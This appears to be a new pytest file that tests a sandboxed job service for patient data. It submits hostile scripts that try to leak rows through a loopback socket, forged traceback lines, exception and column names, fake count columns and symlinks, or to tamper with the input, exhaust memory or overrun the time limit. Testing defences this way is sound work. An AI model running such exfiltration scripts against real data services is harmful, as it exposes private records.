@@ -1,0 +1,335 @@
+"""Hostile job scripts, submitted through the API like any other job.
+
+Each test asserts the job's final state (blocked or failed), that nothing of the data comes
+out (no released output, no fetchable output, no input value in the requester's log), and
+that the outcome is on the ledger (a ``run.finished`` entry with that state and job id).
+
+NETWORK SAFETY: the only network attack aims at 127.0.0.1, and only after the script has
+checked that ``lo`` is its sole interface; otherwise it sends nothing and exits with 5.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import textwrap
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+
+from tests.docker.helpers import (
+    COLUMNS,
+    MIN_CELL,
+    Provider,
+    Stack,
+    fetch_output,
+    grant,
+    register,
+    run_entry,
+    sha256,
+    submit,
+    wait_job,
+    write_table,
+)
+
+pytestmark = pytest.mark.docker
+
+
+@dataclass
+class Target:
+    """A registered dataset, the requester's permit on it, and the values it holds."""
+
+    provider: Provider
+    source: Path
+    dataset_id: str
+    permit_id: str
+    values: frozenset[str]  # distinctive input values that must never reach the requester
+
+
+def _target(stack: Stack, which: str, file: str, seed: int, columns: list[str]) -> Target:
+    p = stack.providers[which]
+    source = write_table(p.root, file, seed=seed)
+    status, ds = register(p, file)
+    assert status == 201, ds
+    frame = pd.read_csv(source, dtype=str, keep_default_na=False)
+    # Costs (two decimals, unique per record) and patient numbers identify records; a
+    # console or output channel that carried rows would carry these. Also the two-decimal
+    # spelling pandas' own printing would use.
+    values = set(frame["cost"]) | {f"{float(c):.2f}" for c in frame["cost"]}
+    values |= set(frame["patient_id"])
+    return Target(p, source, ds["id"], grant(stack, p, ds["id"], columns),
+                  frozenset(values))
+
+
+@pytest.fixture(scope="module")
+def target(stack: Stack) -> Target:
+    return _target(stack, "main", "attacked.csv", 31, COLUMNS)
+
+
+@pytest.fixture(scope="module")
+def tight_target(stack: Stack) -> Target:
+    """A dataset served by the agent with small limits (5 s, 128 MB)."""
+    return _target(stack, "tight", "tight.csv", 32, COLUMNS)
+
+
+def run_attack(stack: Stack, t: Target, script: str) -> dict[str, Any]:
+    job_id = submit(stack, t.permit_id, t.dataset_id, textwrap.dedent(script))
+    return wait_job(stack.requester, job_id)
+
+
+def assert_nothing_out(stack: Stack, t: Target, job: dict[str, Any], state: str) -> None:
+    assert job["state"] == state, job
+    # Nothing released, nothing fetchable, whatever the outputs were called.
+    assert all(o["decision"] == "blocked" for o in job["outputs"]), job["outputs"]
+    for o in job["outputs"]:
+        code, content = fetch_output(stack.requester, job["id"], o["name"])
+        assert code == 404, content[:200]
+    # The requester's console log carries no input value.
+    log = job["log"] or ""
+    leaked = sorted(v for v in t.values if v in log)
+    assert not leaked, f"log carries input values: {leaked[:5]}"
+    for text in (job["reason"] or "", str(job["outputs"])):
+        assert not [v for v in t.values if v in text]
+    # The outcome is on the ledger, with this job id and this state.
+    entry = run_entry(stack.regulator, job["id"])
+    assert entry["body"]["state"] == state
+    assert entry["body"]["outputs"] == [
+        {"name": o["name"], "sha256": o["sha256"], "bytes": o["bytes"], "decision": "blocked"}
+        for o in job["outputs"]]
+
+
+@contextlib.contextmanager
+def host_listener() -> Iterator[tuple[int, list[bytes]]]:
+    """A TCP listener on the HOST's 127.0.0.1; records whatever connects to it."""
+    received: list[bytes] = []
+    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(4)
+    srv.settimeout(0.2)
+    stop = threading.Event()
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = srv.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(1)
+                with contextlib.suppress(OSError):
+                    received.append(conn.recv(65536) or b"<connected>")
+
+    t = threading.Thread(target=accept, daemon=True)
+    t.start()
+    try:
+        yield srv.getsockname()[1], received
+    finally:
+        stop.set()
+        t.join(timeout=5)
+        srv.close()
+
+
+def test_a_socket_to_loopback_carries_nothing_out(stack: Stack, target: Target) -> None:
+    # The container has its own network namespace: its 127.0.0.1 is not the host's. The
+    # script sends nothing unless lo is its only interface (exit 5 then).
+    with host_listener() as (port, received):
+        job = run_attack(stack, target, f"""
+            import os, socket, sys
+            import pandas as pd
+            rows = pd.read_csv("/in/data.csv").to_csv(index=False).encode()
+            if sorted(os.listdir("/sys/class/net")) != ["lo"]:
+                sys.exit(5)
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.settimeout(3)
+            try:
+                s.connect(("127.0.0.1", {port}))
+                s.sendall(rows)
+            except ConnectionRefusedError:
+                sys.exit(3)
+            except OSError:
+                sys.exit(6)
+            sys.exit(4)
+        """)
+    assert received == []
+    assert job["exit_code"] == 3, job  # refused: nothing listens on the job's own loopback
+    assert_nothing_out(stack, target, job, "failed")
+
+
+def test_b_writing_to_the_input_fails(stack: Stack, target: Target) -> None:
+    before = sha256(target.source.read_bytes())
+    job = run_attack(stack, target, """
+        import os, sys
+
+        def attempt(fn):
+            try:
+                fn()
+                return "ok"
+            except OSError as e:
+                return e.errno
+
+        results = [
+            attempt(lambda: open("/in/data.csv", "a").write("30,F,I21,1.00\\n")),
+            attempt(lambda: open("/in/data.csv", "w").close()),
+            attempt(lambda: os.remove("/in/data.csv")),
+            attempt(lambda: os.rename("/in/data.csv", "/in/moved.csv")),
+            attempt(lambda: open("/in/new.csv", "w").close()),
+            attempt(lambda: os.chmod("/in/data.csv", 0o666)),
+        ]
+        sys.exit(4 if "ok" in results else 3)
+    """)
+    assert job["exit_code"] == 3, job  # every write attempt failed inside the container
+    assert sha256(target.source.read_bytes()) == before
+    assert_nothing_out(stack, target, job, "failed")
+
+
+def test_c_raw_rows_without_a_count_column_are_blocked(stack: Stack, target: Target) -> None:
+    job = run_attack(stack, target, """
+        import pandas as pd
+        pd.read_csv("/in/data.csv").to_csv("/out/rows.csv", index=False)
+    """)
+    assert_nothing_out(stack, target, job, "blocked")
+    assert "no count column" in job["reason"]
+
+
+def test_c_a_nan_count_is_blocked_not_a_crash(stack: Stack, target: Target) -> None:
+    # float("nan") passes a float() parse; int() of it raised inside the agent's checks.
+    job = run_attack(stack, target, """
+        import pandas as pd
+        df = pd.read_csv("/in/data.csv").head(5)
+        df["n"] = "nan"
+        df.to_csv("/out/rows.csv", index=False)
+    """)
+    assert_nothing_out(stack, target, job, "blocked")
+    assert "count column" in job["reason"]
+
+
+def test_d_raw_rows_with_a_fake_count_column_are_blocked(stack: Stack,
+                                                          target: Target) -> None:
+    job = run_attack(stack, target, f"""
+        import pandas as pd
+        df = pd.read_csv("/in/data.csv").head(10)
+        df["n"] = {MIN_CELL * 2}  # claims 20 records per row: 200 <= rows read
+        df.to_csv("/out/summary.csv", index=False)
+    """)
+    assert_nothing_out(stack, target, job, "blocked")
+    assert "reproduces a value that fewer than" in job["reason"]
+
+
+def test_e_raw_rows_printed_to_the_console_are_withheld(stack: Stack,
+                                                         target: Target) -> None:
+    job = run_attack(stack, target, """
+        import sys
+        import pandas as pd
+        df = pd.read_csv("/in/data.csv")
+        print(df.to_csv(index=False))
+        print(df.to_string(), file=sys.stderr)
+        for row in df.itertuples():
+            print(f"  File \\"/job/script.py\\", line 1, in {row.cost}")
+        raise ValueError(df.head(30).to_csv(index=False))
+    """)
+    assert_nothing_out(stack, target, job, "failed")
+    log = job["log"]
+    # What is kept is the traceback's structure; the message is withheld.
+    assert "Traceback (most recent call last):" in log
+    assert "ValueError: <message withheld>" in log
+    assert "console output withheld" in log
+
+
+def test_e_forged_traceback_lines_carry_no_values(stack: Stack, target: Target) -> None:
+    # Console lines shaped like traceback frames, with values hidden in the line number,
+    # the function name and the exception's class name.
+    job = run_attack(stack, target, """
+        import sys
+        import pandas as pd
+        cents = [int(round(c * 100)) for c in pd.read_csv("/in/data.csv")["cost"]]
+        for c in cents:
+            print(f'  File "/job/script.py", line {c}, in <module>')
+            print(f'  File "/job/script.py", line 1, in f{c}', file=sys.stderr)
+        print("Traceback (most recent call last):", file=sys.stderr)
+        for c in cents[:50]:
+            print(f'  File "/job/script.py", line 1, in f{c}', file=sys.stderr)
+        raise type(f"E{cents[0]}Error", (Exception,), {})("x")
+    """)
+    assert_nothing_out(stack, target, job, "failed")
+    frame = pd.read_csv(target.source, dtype=str, keep_default_na=False)
+    cents = {str(round(float(c) * 100)) for c in frame["cost"]}
+    leaked = sorted(c for c in cents if c in job["log"])
+    assert not leaked, f"the log carries {len(leaked)} input value(s), e.g. {leaked[:3]}"
+
+
+def test_e_column_names_of_a_blocked_output_are_not_echoed(stack: Stack,
+                                                            target: Target) -> None:
+    # A blocked output's reasons reach the requester: a column name must not smuggle rows
+    # out through them (nor, being long, wedge the run: reasons are capped by the API).
+    job = run_attack(stack, target, """
+        import pandas as pd
+        df = pd.read_csv("/in/data.csv")
+        name = "_".join(df["cost"].astype(str).head(60))
+        pd.DataFrame({name: [df["cost"][0]], "n": [20]}).to_csv("/out/t.csv", index=False)
+    """)
+    assert_nothing_out(stack, target, job, "blocked")
+    assert "reproduces a value that fewer than" in job["reason"]
+
+
+def test_f_symlink_to_the_input_is_blocked_never_followed(stack: Stack,
+                                                          target: Target) -> None:
+    job = run_attack(stack, target, """
+        import os
+        import pandas as pd
+        df = pd.read_csv("/in/data.csv")
+        pd.DataFrame({"n": [len(df)]}).to_csv("/out/total.csv", index=False)
+        os.symlink("/in/data.csv", "/out/data.csv")
+    """)
+    assert_nothing_out(stack, target, job, "blocked")
+    by_name = {o["name"]: o for o in job["outputs"]}
+    assert "symbolic link" in " ".join(by_name["data.csv"]["reasons"])
+    # Not followed: the blocked link's record is not the digest of the input it points at.
+    assert by_name["data.csv"]["sha256"] != job["input_sha256"]
+    assert by_name["data.csv"]["bytes"] == 0
+    # The harmless sibling is withheld too: nothing of a suspect run is released.
+    assert any("withheld" in r for r in by_name["total.csv"]["reasons"])
+
+
+def test_g_identifier_column_is_blocked(stack: Stack, target: Target) -> None:
+    permit_id = grant(stack, target.provider, target.dataset_id, ["patient_id", *COLUMNS])
+    job_id = submit(stack, permit_id, target.dataset_id, textwrap.dedent("""
+        import pandas as pd
+        df = pd.read_csv("/in/data.csv")
+        pd.DataFrame({"patient_id": ["all"], "n": [len(df)]}).to_csv("/out/ids.csv",
+                                                                     index=False)
+    """))
+    job = wait_job(stack.requester, job_id)
+    assert_nothing_out(stack, target, job, "blocked")
+    assert "identifier column" in job["reason"]
+    assert "patient_id" in job["reason"]
+
+
+def test_h_memory_bomb_fails_out_of_memory(stack: Stack, tight_target: Target) -> None:
+    job = run_attack(stack, tight_target, """
+        import pandas as pd
+        df = pd.read_csv("/in/data.csv")
+        hoard = []
+        while True:
+            hoard.append(b"x" * (16 << 20))  # touched pages, 16 MiB at a time
+    """)
+    assert_nothing_out(stack, tight_target, job, "failed")
+    assert "out of memory" in job["reason"]
+
+
+def test_h_sleeping_past_the_deadline_fails_timed_out(stack: Stack,
+                                                      tight_target: Target) -> None:
+    job = run_attack(stack, tight_target, """
+        import time
+        import pandas as pd
+        df = pd.read_csv("/in/data.csv")
+        pd.DataFrame({"n": [len(df)]}).to_csv("/out/total.csv", index=False)
+        time.sleep(120)
+    """)
+    assert_nothing_out(stack, tight_target, job, "failed")
+    assert "timed out" in job["reason"]
+    assert job["outputs"] == []  # the file written before the sleep never leaves
